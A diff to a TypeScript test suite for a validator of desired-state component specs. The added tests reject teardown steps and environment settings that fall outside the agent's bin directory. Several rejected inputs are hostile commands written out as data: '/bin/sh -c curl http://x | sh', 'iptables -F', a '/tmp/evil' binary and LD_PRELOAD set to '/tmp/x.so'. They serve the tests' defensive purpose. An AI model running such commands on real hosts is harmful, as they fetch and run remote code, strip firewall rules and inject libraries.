@@ -34,6 +34,12 @@ describe('validateDesiredState', () => {
     (probed.components[0].spec as any).probe = { type: 'exec', command: ['${binDir}/ctr', 'version'], intervalSeconds: 1, timeoutSeconds: 1, failureThreshold: 1 };
     (probed.components[0].spec as any).env = { GODEBUG: 'x' };
     expect(validateDesiredState(probed)).toEqual(probed);
+    const tornDown = good();
+    (tornDown.components[0].spec as any).teardown = [
+      { when: 'before-stop', command: ['${binDir}/corral-teardown', 'containers', '--address', '${dataDir}/containerd.sock'], timeoutSeconds: 60 },
+      { when: 'after-stop', command: ['corral-coredns', '--cleanup=169.254.20.10'], timeoutSeconds: 10 },
+    ];
+    expect(validateDesiredState(tornDown)).toEqual(tornDown);
   });
 
   it.each<[string, (d: any) => void, RegExp]>([
@@ -46,7 +52,10 @@ describe('validateDesiredState', () => {
     ['exec probe without command', (d) => (d.components[0].spec.probe = { type: 'exec', intervalSeconds: 1, timeoutSeconds: 1, failureThreshold: 1 }), /needs a command/],
     ['an exec probe outside --bin-dir', (d) => (d.components[0].spec.probe = { type: 'exec', command: ['/bin/sh', '-c', 'true'], intervalSeconds: 1, timeoutSeconds: 1, failureThreshold: 1 }), /probe\.command executable "\/bin\/sh" must be a file name in the agent's --bin-dir/],
     ['an exec probe climbing out of ${binDir}', (d) => (d.components[0].spec.probe = { type: 'exec', command: ['${binDir}/../sh'], intervalSeconds: 1, timeoutSeconds: 1, failureThreshold: 1 }), /--bin-dir/],
-    ['a teardown step running a binary outside --bin-dir and the system tools', (d) => (d.components[0].spec.teardown = [{ when: 'after-stop', command: ['/tmp/evil', '--now'], timeoutSeconds: 5 }]), /spec\.teardown\[0\]\.command executable "\/tmp\/evil" must be a file name in the agent's --bin-dir/],
+    ['a teardown step running a binary outside --bin-dir', (d) => (d.components[0].spec.teardown = [{ when: 'after-stop', command: ['/tmp/evil', '--now'], timeoutSeconds: 5 }]), /spec\.teardown\[0\]\.command executable "\/tmp\/evil" must be a file name in the agent's --bin-dir/],
+    // the server chose the script a shell step runs: no shell, wherever it lives (issue 12)
+    ['a teardown step running /bin/sh -c', (d) => (d.components[0].spec.teardown = [{ when: 'before-stop', command: ['/bin/sh', '-c', 'curl http://x | sh'], timeoutSeconds: 5 }]), /spec\.teardown\[0\]\.command executable "\/bin\/sh" must be a file name in the agent's --bin-dir \(a plain name or \$\{binDir\}\/<name>\)$/],
+    ['a teardown step running a system tool', (d) => (d.components[0].spec.teardown = [{ when: 'after-stop', command: ['/usr/sbin/iptables', '-F'], timeoutSeconds: 5 }]), /spec\.teardown\[0\]\.command executable "\/usr\/sbin\/iptables" must be a file name in the agent's --bin-dir/],
     ['LD_PRELOAD in env', (d) => (d.components[0].spec.env = { LD_PRELOAD: '/tmp/x.so' }), /spec\.env name LD_PRELOAD may not be set/],
     ['PATH in env', (d) => (d.components[0].spec.env = { PATH: '/tmp' }), /PATH may not be set/],
     ['LD_LIBRARY_PATH in an init step env', (d) => (d.components[0].spec.init = [{ name: 'i', binary: 'etcdutl', args: [], output: 'x', env: { LD_LIBRARY_PATH: '/tmp' } }]), /init\[0\]\.env name LD_LIBRARY_PATH/],
